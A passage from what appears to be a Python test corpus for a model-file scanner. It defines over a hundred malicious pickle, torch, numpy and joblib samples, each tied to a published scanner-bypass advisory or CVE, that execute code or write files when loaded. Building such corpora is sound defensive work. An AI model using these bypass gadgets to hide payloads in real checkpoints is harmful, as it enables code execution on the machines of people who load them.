    # fickling GHSA-r7v6-mfhq-g3m2 (pty missing from unsafe imports).
    _a(
        "pty-spawn",
        "pty.spawn",
        FK + "GHSA-r7v6-mfhq-g3m2",
        "Spawns a process under a pty.",
        _pkl(simple("pty", "spawn", argv)),
    ),
    _a(
        "multiprocessing-spawnv-passfds",
        "multiprocessing.util.spawnv_passfds -> fork_exec",
        "https://github.com/trailofbits/fickling/pull/210",
        "Raw _posixsubprocess.fork_exec through a multiprocessing helper.",
        _pkl(fork_exec),
    ),
    # CVE-2025-10157 (JFrog): asyncio subprocess execution missed by picklescan.
    _a(
        "asyncio-subprocess-shell",
        "asyncio.create_subprocess_shell + asyncio.run",
        "CVE-2025-10157",
        "A coroutine built by one REDUCE is run by another.",
        _pkl(asyncio_shell),
    ),
    _a(
        "webbrowser-generic-browser",
        "webbrowser.GenericBrowser.open",
        T,
        "A 'browser' whose command line is the payload.",
        _pkl(webbrowser_generic),
    ),
    _a(
        "ctypes-pythonapi",
        "ctypes.pythonapi.PyRun_SimpleString (dotted name)",
        T,
        "One STACK_GLOBAL with a dotted name reaches the C API.",
        _pkl(ctypes_pythonapi),
    ),
    _a(
        "ctypes-libc-system",
        "ctypes.CDLL(None).system",
        T,
        "libc system() through ctypes.",
        _pkl(ctypes_libc),
    ),
    # -- indirection ----------------------------------------------------------------------------
    _a(
        "getattr-import-chain",
        "builtins.getattr(__import__('os'), 'system')",
        T,
        "Dangerous name built at load time.",
        _pkl(getattr_chain),
    ),
    _a(
        "dotted-getattr-self",
        "STACK_GLOBAL builtins 'getattr.__self__.exec'",
        T,
        "Protocol 4 resolves dotted names attribute by attribute.",
        _pkl(lambda c, d: p4(call(g("builtins", "getattr.__self__.exec"), _pystmt(c)))),
    ),
    _a(
        "dotted-torch-serialization-os",
        "STACK_GLOBAL torch.serialization 'os.system'",
        T,
        "A torch-looking module name reaches os.system through a module attribute.",
        _pkl(lambda c, d: p4(call(g("torch.serialization", "os.system"), _sh(c)))),
        requires=TORCH,
    ),
    # picklescan GHSA-m273-6v24-x4m4 (operator), GHSA-955r-x9j8-7rhh (_operator).
    _a(
        "operator-attrgetter",
        "operator.attrgetter on torch._utils.torch",
        PS + "GHSA-m273-6v24-x4m4",
        "attrgetter('serialization.os.system')(torch).",
        _pkl(attrgetter_torch),
        requires=TORCH,
    ),
    _a(
        "operator-methodcaller",
        "operator.methodcaller('system')(posixpath.os)",
        PS + "GHSA-m273-6v24-x4m4",
        "The os module reached as posixpath.os.",
        _pkl(methodcaller("operator")),
    ),
    _a(
        "operator-underscore-methodcaller",
        "_operator.methodcaller",
        PS + "GHSA-955r-x9j8-7rhh",
        "The C module spelling of operator.",
        _pkl(methodcaller("_operator")),
    ),
    _a(
        "functools-partial",
        "functools.partial(os.system, cmd)()",
        "https://github.com/trailofbits/fickling/pull/210",
        "Call through a partial object.",
        _pkl(partial_call),
    ),
    # picklescan GHSA-vvpj-8cmc-gx39: universal bypass through pkgutil.resolve_name.
    _a(
        "pkgutil-resolve-name",
        "pkgutil.resolve_name('os:system')",
        PS + "GHSA-vvpj-8cmc-gx39",
        "A string resolved to any callable at load time.",
        _pkl(lambda c, d: p4(call(call(g("pkgutil", "resolve_name"), "os:system"), _sh(c)))),
    ),
    # modelscan issue #331: module name built with str.join.
    _a(
        "importlib-import-module-join",
        "importlib.import_module(''.join(...)) + getattr",
        "https://github.com/protectai/modelscan/issues/331",
        "Module name assembled at load time.",
        _pkl(importlib_join),
    ),
    _a(
        "copyreg-extension-ext1",
        "copyreg.add_extension + EXT1",
        T,
        "The pickle registers an extension code, then imports through EXT1.",
        _pkl(copyreg_extension),
    ),
    _a(
        "logging-dictconfig-factory",
        "logging.config.dictConfig '()' factory",
        T,
        "dictConfig resolves 'os.system' from a string and calls it.",
        _pkl(logging_dictconfig),
    ),
    # fickling GHSA-565g-hwwr-4pp3.
    _a(
        "marshal-functiontype",
        "marshal.loads + types.FunctionType",
        FK + "GHSA-565g-hwwr-4pp3",
        "Bytecode unmarshalled and wrapped in a function, then called.",
        _pkl(marshal_function),
    ),
    # -- nested deserialisation -------------------------------------------------------------------
    # picklescan GHSA-84r2-jw7c-4r5q (nested pickle); issue #24 (_codecs); modelscan #338 (zlib).
    _a(
        "nested-pickle-loads",
        "pickle.loads(inner)",
        PS + "GHSA-84r2-jw7c-4r5q",
        "The outer pickle unpickles an inner payload.",
        _pkl(nested_pickle),
    ),
    _a(
        "nested-pickle-codecs",
        "_pickle.loads(_codecs.encode(text))",
        "https://github.com/mmaitre314/picklescan/issues/24",
        "Inner pickle carried as a latin-1 string.",
        _pkl(nested_pickle_codecs),
    ),
    _a(
        "nested-pickle-zlib",
        "pickle.loads(zlib.decompress(blob))",
        "https://github.com/protectai/modelscan/issues/338",
        "Inner pickle compressed so no dangerous name appears in clear.",
        _pkl(nested_pickle_zlib),
    ),
    _a(
        "nested-torch-load",
        "torch.load(inner, None, pickle)",
        T,
        "Positional pickle_module disables weights_only in the nested torch.load.",
        _pkl(torch_load_nested),
        requires=TORCH,
    ),
    _a(
        "nested-numpy-load",
        "numpy.load(inner, None, True)",
        T,
        "Positional allow_pickle=True in a nested numpy.load.",
        _pkl(numpy_load_nested),
    ),
    # picklescan GHSA-f54q-57x4-jg88 / GHSA-p9w7-82w4-7q8m / GHSA-6w4w-5w54-rjvr.
    _a(
        "lib2to3-grammar-loads",
        "lib2to3 Grammar.loads (nested pickle)",
        PS + "GHSA-f54q-57x4-jg88",
        "Grammar.loads unpickles its argument.",
        _pkl(lib2to3_grammar_loads),
        requires=("lib2to3",),
    ),
    _a(
        "lib2to3-make-label",
        "lib2to3 ParserGenerator.make_label (eval)",
        PS + "GHSA-p9w7-82w4-7q8m",
        "make_label evals quoted labels.",
        _pkl(lib2to3_make_label),
        requires=("lib2to3",),
    ),
    _a(
        "idlelib-get-entity",
        "idlelib AutoComplete.get_entity (eval)",
        PS + "GHSA-6w4w-5w54-rjvr",
        "get_entity evals its argument.",
        _pkl(idlelib_get_entity),
        requires=("_tkinter",),
    ),
    _a(
        "idlelib-objecttreeitem-settext",
        "idlelib ObjectTreeItem.SetText (eval)",
        PS + "GHSA-3vg9-h568-4w9m",
        "SetText evals the new value.",
        _pkl(idlelib_object_tree_item),
        requires=("_tkinter",),
    ),
    _a(
        "idlelib-fetch-completions",
        "idlelib AutoComplete.fetch_completions (eval)",
        PS + "GHSA-7cq8-mj8x-j263",
        "Attribute completion evals the prefix it completes.",
        _pkl(idlelib_fetch_completions),
        requires=("_tkinter",),
    ),
    _a(
        "doctest-debug-script",
        "doctest.debug_script(src, pm=True) (exec)",
        PS + "GHSA-fqq6-7vqf-w3fg",
        "Post-mortem mode execs the script before any debugger starts.",
        _pkl(lambda c, d: p4(call(g("doctest", "debug_script"), _pystmt(c), True))),
    ),
    _a(
        "numpy-f2py-eval",
        "numpy.f2py.crackfortran._eval_scalar (eval)",
        "https://github.com/trailofbits/fickling/pull/210",
        "f2py evaluates Fortran expressions.",
        _pkl(f2py_eval),
    ),
    # -- code runners in the standard library --------------------------------------------------
    _a(
        "runpy-run-code",
        "runpy._run_code",
        T,
        "exec through runpy.",
        _pkl(simple("runpy", "_run_code", py, const({}))),
    ),
    _a(
        "code-runsource",
        "code.InteractiveInterpreter.runsource",
        "https://github.com/mmaitre314/picklescan/pull/48",
        "Unbound method called on an instance.",
        _pkl(code_interp("runsource")),
    ),
    _a(
        "code-runcode",
        "code.InteractiveInterpreter.runcode",
        "https://github.com/mmaitre314/picklescan/pull/48",
        "runcode execs source.",
        _pkl(code_interp("runcode")),
    ),
    # modelscan issue #272, picklescan GHSA-v7x6-rv5q-mhwc.
    _a(
        "timeit-timeit",
        "timeit.timeit(stmt, setup)",
        PS + "GHSA-v7x6-rv5q-mhwc",
        "The setup string is executed.",
        _pkl(simple("timeit", "timeit", const("pass"), py)),
    ),
    _a(
        "bdb-run",
        "bdb.Bdb.run",
        "https://github.com/trailofbits/fickling/pull/210",
        "The debugger base class runs a statement.",
        _pkl(bdb_run),
    ),
    _a(
        "pdb-run",
        "pdb.Pdb.run with a scripted stdin",
        "https://github.com/trailofbits/fickling/pull/210",
        "Pdb reads 'continue' from a StringIO built by the pickle.",
        _pkl(pdb_run),
    ),
    _a(
        "cprofile-run",
        "cProfile.run",
        "https://github.com/mmaitre314/picklescan/pull/49",
        "The profiler execs a statement.",
        _pkl(simple("cProfile", "run", py)),
    ),
    _a(
        "cprofile-runctx",
        "cProfile.runctx",
        PS + "GHSA-9w88-8rmg-7g2p",
        "runctx with explicit namespaces.",
        _pkl(simple("cProfile", "runctx", py, const({}), const({}))),
    ),
    _a(
        "profile-profile-run",
        "profile.Profile.run",
        PS + "GHSA-x696-vm39-cp64",
        "Pure-Python profiler runs a statement.",
        _pkl(profile_run),
    ),
    _a(
        "trace-trace-run",
        "trace.Trace.run",
        PS + "GHSA-5qwp-399c-mjwf",
        "The tracer execs a statement.",
        _pkl(trace_run("run")),
    ),
    _a(
        "trace-trace-runctx",
        "trace.Trace.runctx",
        PS + "GHSA-g344-hcph-8vgg",
        "runctx with explicit namespaces.",
        _pkl(trace_run("runctx")),
    ),
    # fickling GHSA-6ggj-6f2q-f7mx (subinterpreters).
    _a(
        "subinterpreter-run-string",
        "_xxsubinterpreters.run_string",
        FK + "GHSA-6ggj-6f2q-f7mx",
        "Source run in a fresh subinterpreter.",
        _pkl(subinterpreter),
        requires=("_xxsubinterpreters",),
    ),
    # CVE-2026-56315 (picklescan < 1.0.4): stdlib helpers that run commands.
    _a(
        "uuid-get-command-stdout",
        "uuid._get_command_stdout",
        "CVE-2026-56315",
        "A private uuid helper runs any executable found on PATH.",
        _pkl(lambda c, d: p4(call(g("uuid", "_get_command_stdout"), "touch", str(c.path)))),
    ),
    _a(
        "imaplib-imap4-stream",
        "imaplib.IMAP4_stream",
        "CVE-2026-56315",
        "The IMAP stream transport runs its command with shell=True.",
        _pkl(simple("imaplib", "IMAP4_stream", sh)),
    ),
    _a(
        "osx-support-read-output",
        "_osx_support._read_output",
        "CVE-2026-56315",
        "A build helper passes its argument to os.system.",
        _pkl(simple("_osx_support", "_read_output", sh)),
    ),
    # -- file writes ---------------------------------------------------------------------------
    _a(
        "io-fileio-write",
        "_io.FileIO(path, 'w')",
        "CVE-2025-10155",
        "Creates / truncates any file the victim can write.",
        _pkl(io_fileio),
    ),
    _a(
        "mailcap-findmatch",
        "mailcap.findmatch (test command through os.system)",
        "https://github.com/protectai/modelscan/pull/346",
        "A mailcap entry's test command runs in a shell.",
        _pkl(mailcap_findmatch),
    ),
    _a(
        "sympy-sympify-eval",
        "sympy.sympify of a Python expression",
        T,
        "sympify parses strings with eval; sympy ships with torch.",
        _pkl(sympy_eval("sympy.sympify")),
        requires=("sympy",),
    ),
    _a(
        "sympy-parse-expr-eval",
        "sympy.parsing.sympy_parser.parse_expr",
        T,
        "parse_expr evaluates the transformed source.",
        _pkl(sympy_eval("sympy.parsing.sympy_parser.parse_expr")),
        requires=("sympy",),
    ),
    _a(
        "codecs-open-write",
        "codecs.open(path, 'w')",
        T,
        "Creates / truncates any file the victim can write (the allowlisted codecs.encode's "
        "module neighbour).",
        _pkl(simple("codecs", "open", canary_path, const("w"))),
    ),
    _a(
        "wave-open-write",
        "wave.open(path, 'wb')",
        T,
        "Creates / truncates any file the victim can write (so do sunau and aifc).",
        _pkl(simple("wave", "open", canary_path, const("wb"))),
    ),
    _a(
        "distutils-write-file",
        "distutils.file_util.write_file",
        "CVE-2025-10155",
        "Writes any file.",
        _pkl(simple("distutils.file_util", "write_file", canary_path, const(["x"]))),
        requires=("distutils",),
    ),
    _a(
        "shutil-copyfile",
        "shutil.copyfile",
        "CVE-2025-10156",
        "Copies over any file.",
        _pkl(shutil_copy),
    ),
    # -- packaging tools and planted files -------------------------------------------------------
    # picklescan GHSA-vqmv-47xg-9wpr (pip / venv / ensurepip).
    _a(
        "venv-create",
        "venv.create",
        PS + "GHSA-vqmv-47xg-9wpr",
        "Creates a directory tree (a venv) anywhere.",
        _pkl(simple("venv", "create", canary_path)),
    ),
    _a(
        "ensurepip-run-pip",
        "ensurepip._run_pip with a planted pip",
        PS + "GHSA-xp4f-hrf8-rxw7",
        "Runs 'pip' from an extra sys.path entry the pickle chooses.",
        _pkl(planted_ensurepip),
    ),
    # CVE-2025-1716: pip.main; here it builds a planted sdist (runs its setup.py).
    _a(
        "pip-main",
        "pip.main(['download', planted_sdist])",
        "CVE-2025-1716",
        "pip runs a planted setup.py while preparing metadata.",
        _pkl(planted_pip_main),
    ),
    _a(
        "distutils-run-setup",
        "distutils.core.run_setup(planted setup.py)",
        T,
        "run_setup execs a script.",
        _pkl(planted_run_setup),
        requires=("distutils",),
    ),
    _a(
        "runpy-run-path",
        "runpy.run_path(planted script)",
        T,
        "Runs a planted script.",
        _pkl(planted_run_path),
    ),
    _a(
        "importlib-planted-module",
        "importlib.import_module(planted module)",
        T,
        "Imports a module planted next to the checkpoint (on the victim's sys.path).",
        _pkl(planted_import_module),
        natural_load=pickle_load_with_dir_on_path,
    ),
    _a(
        "planted-module-global",
        "GLOBAL of a planted module",
        T,
        "No dangerous name at all: importing the planted module is the payload; only an "
        "allowlist can refuse it.",
        _pkl(planted_global),
        natural_load=pickle_load_with_dir_on_path,
        expected=Verdict.UNKNOWN,
    ),
    # -- torch gadgets ----------------------------------------------------------------------------
    _a(
        "torch-fx-reduce-graph-module",
        "torch.fx.graph_module.reduce_graph_module (exec)",
        T,
        "GraphModule unpickling execs its import block.",
        _pkl(fx_graph_module),
        requires=TORCH,
    ),
    _a(
        "torch-dynamo-load-config",
        "torch._dynamo.config.load_config (nested pickle)",
        T,
        "torch.utils._config_module unpickles bytes it is given.",
        _pkl(dynamo_load_config),
        requires=TORCH,
    ),
    _a(
        "torch-inductor-pycodecache",
        "torch._inductor.codecache.PyCodeCache.load",
        T,
        "Inductor's code cache writes and imports Python source.",
        _pkl(inductor_pycodecache),
        requires=TORCH,
    ),
    _a(
        "torch-hub-load-local",
        "torch.hub._load_local(planted hubconf.py)",
        T,
        "torch.hub imports hubconf.py from a folder the pickle names.",
        _pkl(torch_hub_local),
        requires=TORCH,
    ),
    _a(
        "torch-serialization-load-alias",
        "torch.serialization.load (alias of torch.load), pickle_module positional",
        T,
        "The same nested load under its defining module's name.",
        _pkl(torch_serialization_load_alias),
        requires=TORCH,
    ),
    _a(
        "torch-symbolic-shapes-eval",
        "ShapeEnv.evaluate_guards_expression (eval)",
        "https://github.com/protectai/modelscan/pull/313",
        "torch.fx's guard evaluator evals its argument.",
        _pkl(symbolic_shapes_eval),
        requires=TORCH,
    ),
    _a(
        "joblib-load-nested",
        "joblib.load(inner)",
        T,
        "A pickle that loads another file with joblib.",
        _pkl(joblib_load_nested),
        requires=("joblib",),
    ),
    _a(
        "numpy-memmap-file-write",
        "numpy.memmap(path, mode='w+')",
        T,
        "Creates or truncates any file: a file-write primitive from numpy.",
        _pkl(lambda c, d: p4(call(g("numpy", "memmap"), str(c.path), "uint8", "w+", 0, (1,)))),
        requires=("numpy",),
    ),
    _a(
        "numpy-open-memmap-file-write",
        "numpy.lib.format.open_memmap(path, 'w+')",
        T,
        "Writes an .npy header to any path.",
        _pkl(
            lambda c, d: p4(
                call(g("numpy.lib.format", "open_memmap"), str(c.path), "w+", None, (1,))
            )
        ),
        requires=("numpy",),
    ),
    _a(
        "numpy-savetxt-file-write",
        "numpy.savetxt(path, data)",
        T,
        "Writes text to any path.",
        _pkl(lambda c, d: p4(call(g("numpy", "savetxt"), str(c.path), [1.0]))),
        requires=("numpy",),
    ),
    # -- pickle stream tricks -----------------------------------------------------------------
    # picklescan issue #22: names fetched from the memo.
    _a(
        "stack-global-memo",
        "STACK_GLOBAL names from memo",
        "https://github.com/mmaitre314/picklescan/issues/22",
        "Memoised names, popped, then fetched with BINGET.",
        _pkl(stack_global_memo),
    ),
    _a(
        "stack-global-dup",
        "STACK_GLOBAL name through DUP and decoys",
        T,
        "Decoy strings and DUP confuse 'last two strings' heuristics.",
        _pkl(stack_global_dup),
    ),
    _a(
        "stack-global-binstring",
        "STACK_GLOBAL with SHORT_BINSTRING names",
        "https://github.com/protectai/modelscan/pull/313",
        "Protocol-1 string opcodes feed STACK_GLOBAL.",
        _pkl(stack_global_binstring),
    ),
    _a(
        "inst-opcode",
        "INST os.system",
        T,
        "Protocol 0 INST imports and calls in one opcode.",
        _pkl(inst_opcode),
    ),
    _a(
        "obj-opcode",
        "OBJ with os.system",
        T,
        "Protocol 1 OBJ calls the class argument.",
        _pkl(obj_opcode),
    ),
    _a(
        "build-setstate-injection",
        "NEWOBJ Namespace + BUILD {'__setstate__': posix.system}",
        T,
        "The second BUILD calls an injected __setstate__.",
        _pkl(setstate_injection),
    ),
    _a(
        "build-setstate-newobj-ex",
        "NEWOBJ_EX Namespace + BUILD {'__setstate__': exec}",
        T,
        "NEWOBJ_EX variant of the injected __setstate__.",
        _pkl(setstate_injection_newobj_ex),
    ),
    _a(
        "frame-length-lie",
        "FRAME length shorter than its opcodes",
        T,
        "The unpickler treats FRAME as a hint; opcodes past it still run.",
        _pkl(frame_lie),
    ),
    _a(
        "call-then-pop",
        "REDUCE result discarded with POP",
        "https://news.ycombinator.com/item?id=47266286",
        "fickling dropped calls whose result is popped.",
        _pkl(call_then_pop),
    ),
    _a(
        "second-pickle-in-stream",
        "payload in the second pickle of a stream",
        T,
        "A benign pickle followed by a malicious one, read by a load-until-EOF loop.",
        _pkl(second_pickle),
        natural_load=pickle_load_all,
    ),
    # Issue 8: dotted and aliased names resolve to their target (find_class walks attributes).
    _a(
        "dotted-pathlib-os-system",
        "STACK_GLOBAL('pathlib', 'os.system'): a module re-exported by another",
        T,
        "pathlib imports os; find_class walks pathlib.os.system to os.system.",
        _pkl(simple("pathlib", "os.system", sh)),
    ),
    _a(
        "alias-random-os-system",
        "STACK_GLOBAL('random', '_os.system'): a module re-exported under an alias",
        T,
        "random imports os as _os; no catalogued module is named in the pickle.",
        _pkl(simple("random", "_os.system", sh)),
    ),
    _a(
        "alias-enum-builtins-exec",
        "STACK_GLOBAL('enum', 'bltns.exec')",
        T,
        "enum imports builtins as bltns: exec reached through an allowlist-looking module.",
        _pkl(simple("enum", "bltns.exec", py)),
    ),
    _a(
        "logging-filehandler-write",
        "logging.FileHandler creates a file at load",
        PS + "GHSA-m273-6v24-x4m4",
        "Constructing a FileHandler opens (creates) the file it is given: here the canary.",
        _pkl(simple("logging", "FileHandler", canary_path)),
    ),
    _a(
        "scanner-own-code-write",
        "a scanner's own helpers as gadgets (trainwarden._fs.atomic_write)",
        T,
        "The scanner's installed code writes a file of the pickle's choosing.",
        _pkl(lambda c, d: p4(call(g("trainwarden._fs", "atomic_write"), str(c.path), "x"))),
    ),
    _a(
        "torch-collect-env-run",
        "torch.utils.collect_env.run runs a shell command",
        "https://github.com/protectai/modelscan/issues/338",
        "Seen in malicious Hugging Face models (2026).",
        _pkl(simple("torch.utils.collect_env", "run", sh)),
        requires=TORCH,
    ),
    _a(
        "frame-past-stop",
        "FRAME reaching past STOP hides the next pickle from frame-end readers",
        T,
        "PROTO 4, a FRAME over a benign pickle and the payload pickle; the second pickle.load "
        "on a real file runs it.",
        _pkl(frame_past_stop),
        natural_load=pickle_load_all,
    ),
    _a(
        "frame-zero-then-past-stop",
        "zero-length FRAME, then a FRAME reaching past STOP",
        T,
        "A no-op empty frame in front of the frame that hides the second pickle.",
        _pkl(frame_zero_then_past_stop),
        natural_load=pickle_load_all,
    ),
    _a(
        "frame-into-second-pickle",
        "FRAME ends inside the second pickle",
        T,
        "Frame-end readers parse from the middle of an argument; peeking readers run it.",
        _pkl(frame_into_second_pickle),
        natural_load=pickle_load_all,
    ),
    _a(
        "frame-split-mixed-reads",
        "frames split a bytes argument and a string argument",
        T,
        "ReadInto reads on past the first frame, Read jumps past the second: only the mixed "
        "reading of io.BytesIO imports posix.system.",
        _pkl(frame_split_mixed_reads),
        natural_load=pickle_load_bytesio,
    ),
    _a(
        "frame-legacy-torch",
        "FRAME in front of a legacy torch checkpoint hides a pickle",
        T,
        "torch.load's legacy path peeks the magic-number pickle's frame; its next load runs "
        "the hidden pickle.",
        _file("model.pt", frame_legacy_torch),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "proto-switch-midstream",
        "second PROTO opcode re-enables the Python 2 name mapping",
        T,
        "PROTO 4 then PROTO 2, then GLOBAL commands.getoutput (-> subprocess.getoutput).",
        _pkl(proto_switch),
    ),
    _a(
        "payload-after-many-opcodes",
        "payload after 200k benign opcodes",
        T,
        "A large benign list, then the call: a scanner that stops early misses it.",
        _pkl(payload_after_many_opcodes),
    ),
    _a(
        "dunder-builtins-torch-function",
        "STACK_GLOBAL torch._utils '_rebuild_tensor_v2.__builtins__.get'",
        T,
        "Functions expose __builtins__; the import's prefix is an allowlisted torch name.",
        _pkl(dunder_builtins("torch._utils", "_rebuild_tensor_v2", "eval", _pyexpr)),
        requires=TORCH,
    ),
    _a(
        "dunder-builtins-namespace",
        "STACK_GLOBAL argparse 'Namespace.__init__.__builtins__.get'",
        T,
        "Same trick from an allowlisted standard-library class.",
        _pkl(dunder_builtins("argparse", "Namespace.__init__", "exec", _pystmt)),
    ),
    _a(
        "torch-rebuild-from-type-indirect-call",
        "torch._tensor._rebuild_from_type_v2(posix.system, ...)",
        T,
        "The dangerous function is an argument, called by an allowlisted-looking one.",
        _pkl(rebuild_from_type_indirect),
        requires=TORCH,
    ),
    _a(
        "memo-overwrite",
        "memo slots overwritten before STACK_GLOBAL reads them",
        T,
        "Scanners must use the latest memo value.",
        _pkl(memo_overwrite),
    ),
    _a(
        "computed-names-codecs",
        "module and name computed by _codecs.decode",
        T,
        "Names exist only at load time: never provably safe.",
        _pkl(computed_names("decode")),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "computed-names-allowlisted-only",
        "names computed with str(pathlib.PurePosixPath(...))",
        T,
        "Only allowlisted callables build the names: the import is unresolvable, so unknown.",
        _pkl(computed_names("path")),
        expected=Verdict.UNKNOWN,
    ),
    # -- torch files -----------------------------------------------------------------------------
    _a(
        "torch-zip-reduce",
        "torch.save of a __reduce__ object",
        T,
        "The classic malicious .pt.",
        _file("model.pt", torch_zip_save),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-zip-nested-in-state",
        "payload deep inside a realistic checkpoint dict",
        T,
        "Tensors, optimizer state and a payload in a nested list.",
        _file("checkpoint.pt", torch_zip_nested),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-legacy-reduce",
        "legacy (pre-zip) torch.save",
        T,
        "_use_new_zipfile_serialization=False.",
        _file("model.pt", torch_legacy_save),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-legacy-magic-pickle",
        "payload in the legacy magic-number pickle",
        T,
        "The first of the legacy format's pickles runs code before any check.",
        _file("model.pt", torch_legacy_magic),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-legacy-storage-keys",
        "payload in the legacy storage-keys pickle",
        T,
        "The pickle after the object is also unpickled by torch.",
        _file("model.pt", torch_legacy_storage_keys),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-zip-renamed-prefix",
        "torch zip with a non-'archive' prefix",
        T,
        "torch accepts any top-level folder name.",
        _file("model.pt", torch_zip_renamed_prefix),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-zip-duplicate-member",
        "duplicate data.pkl (zipfile reads last, torch first)",
        T,
        "A scanner using zipfile sees the benign copy.",
        _file("model.pt", torch_zip_duplicate),
        torch_load_unsafe,
        TORCH,
    ),
    # CVE-2025-1944 / picklescan GHSA-7q5r-7gvp-wc82.
    _a(
        "torch-zip-local-name-mismatch",
        "local header name differs from central directory",
        PS + "GHSA-7q5r-7gvp-wc82",
        "zipfile raises BadZipFile; torch loads it.",
        _file("model.pt", torch_zip_local_name_mismatch),
        torch_load_unsafe,
        TORCH,
    ),
    # CVE-2025-1945 / picklescan GHSA-w8jq-xcqf-f792.
    _a(
        "torch-zip-flag-bit",
        "general-purpose 'encrypted' flag bit set",
        PS + "GHSA-w8jq-xcqf-f792",
        "zipfile refuses the member; torch ignores the flag.",
        _file("model.pt", torch_zip_flag_bit),
        torch_load_unsafe,
        TORCH,
    ),
    # CVE-2025-10156 (JFrog): bad CRC.
    _a(
        "torch-zip-bad-crc",
        "CRC-32 mismatch on data.pkl",
        "CVE-2025-10156",
        "zipfile raises on read; torch does not check CRCs.",
        _file("model.pt", torch_zip_bad_crc),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-zip-deflated-pickle",
        "data.pkl deflate-compressed",
        T,
        "torch reads compressed members too.",
        _file("model.pt", lambda c, d: _torch_zip_with(c, compress_pickle=True)),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-zip-data-descriptor",
        "zip members with data descriptors (sizes after the data)",
        T,
        "Local headers say size 0; readers must use the central directory.",
        _file("model.pt", torch_zip_data_descriptor),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "torch-zip64",
        "zip64 records",
        T,
        "torch reads zip64 archives.",
        _file("model.pt", lambda c, d: _torch_zip_with(c, zip64=True)),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "pickle-zip-polyglot",
        "pickle prefix + valid torch zip",
        T,
        "Zip readers find the (benign) archive from its end; pickle.load runs the prefix.",
        _file("model.pkl", pickle_zip_polyglot),
        pickle_load,
        TORCH,
    ),
    _a(
        "torch-package-source",
        "torch.package archive with a module whose import is the payload",
        T,
        "PackageImporter imports tw_head from the archive while unpickling.",
        _file("model.pt", torch_package),
        torch_package_load_pickle,
        TORCH,
        expected=Verdict.UNKNOWN,
    ),
    # CVE-2025-1889 / picklescan GHSA-769v-p64c-89pr; CVE-2025-10155: extension-based scanning.
    _a(
        "extension-onnx",
        "torch pickle named .onnx",
        "CVE-2025-1889",
        "Formats must be sniffed from bytes, not extensions.",
        _file("model.onnx", torch_zip_save),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "extension-txt",
        "raw pickle named .txt",
        "CVE-2025-10155",
        "A pickle named like text.",
        _file("notes.txt", lambda c, d: p2(call(text_global("posix", "system"), _sh(c)))),
    ),
    # CVE-2025-32434: torch < 2.6 ran TorchScript archives under weights_only=True. torch 2.13
    # is patched (the natural load below must not run it); the payload must still be flagged.
    _a(
        "torchscript-cve-2025-32434",
        "TorchScript archive carrying a pickle payload",
        "CVE-2025-32434",
        "Patched in torch >= 2.6: documented, still flagged.",
        _file("scripted.pt", torchscript_payload),
        torch_load_default,
        TORCH,
        executes=False,
    ),
    _a(
        "torch-legacy-tar",
        "pre-2017 torch tar format, payload in 'storages'",
        T,
        "torch.load still reads the legacy tar format with weights_only=False.",
        _file("model.tar", torch_legacy_tar),
        torch_load_unsafe,
        TORCH,
    ),
    # -- numpy / joblib ----------------------------------------------------------------------------
    _a(
        "numpy-npy-object-array",
        "object array in .npy",
        T,
        "np.load(allow_pickle=True).",
        _file("array.npy", npy_object),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npz-object-array",
        "object array in .npz",
        T,
        "npz member with an object array.",
        _file("arrays.npz", npz_object),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "joblib-plain",
        "joblib pickle",
        T,
        "joblib.dump without compression.",
        _joblib(0),
        joblib_load,
        ("joblib", "numpy"),
    ),
    *(
        _a(
            f"joblib-{method}",
            f"joblib pickle, {method} compressed",
            T,
            f"joblib.dump(compress=('{method}', 3)).",
            _joblib((method, 3)),
            joblib_load,
            ("joblib", "numpy"),
        )
        for method in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4")
    ),
    _a(
        "numpy-npz-member-without-suffix",
        "npz member without .npy suffix",
        T,
        "numpy.load exposes it as 'meta'; scanners filtering on *.npy skip it.",
        _file("arrays.npz", npz_member_without_suffix),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npy-structured-object-field",
        "structured dtype with one object field",
        T,
        "hasobject is true for the whole record, so the array is pickled.",
        _file("records.npy", npy_structured_object),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npy-stringdtype",
        "npy header descr 'T' (NumPy 2 StringDType, hasobject)",
        T,
        "numpy.load unpickles any dtype with hasobject; 'T' is not 'O' but has it.",
        _file("array.npy", npy_descr("'T'")),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npy-stringdtype-byteorder",
        "npy header descr '>T'",
        T,
        "StringDType with a byte-order prefix.",
        _file("array.npy", npy_descr("'>T'")),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npy-stringdtype-field",
        "npy structured dtype with a StringDType field",
        T,
        "One 'T' field makes the whole record dtype hasobject.",
        _file("array.npy", npy_descr("[('x', '<f4'), ('s', 'T')]")),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npy-stringdtype-subarray",
        "npy subarray dtype of StringDType",
        T,
        "A (base, shape) descr whose base is 'T'.",
        _file("array.npy", npy_descr("('T', (2,))")),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npz-stringdtype-member",
        "npz member with descr 'T'",
        T,
        "The StringDType header inside an npz archive.",
        _file("arrays.npz", npz_member_descr("'=T'")),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npy-v3-header",
        "npy format version 3.0 header, object array",
        T,
        "4-byte header length and utf-8 header.",
        _file("array.npy", npy_v3_header),
        numpy_load_pickle,
        ("numpy",),
    ),
    _a(
        "numpy-npz-duplicate-member",
        "npz with a duplicated member name (numpy reads the last)",
        T,
        "The first meta.npy is numeric, the last one holds an object array.",
        _file("arrays.npz", npz_duplicate_member),
        numpy_load_pickle,
